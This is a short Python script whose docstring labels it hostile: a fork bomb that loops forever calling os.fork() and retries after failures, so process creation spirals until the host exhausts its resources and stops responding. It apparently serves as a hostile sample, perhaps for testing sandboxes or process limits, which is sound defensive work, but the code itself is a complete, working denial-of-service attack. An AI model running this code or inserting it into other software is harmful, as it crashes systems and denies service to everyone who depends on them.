"""Hostile: a fork bomb; every process forks as fast as it can, forever, ignoring failures."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
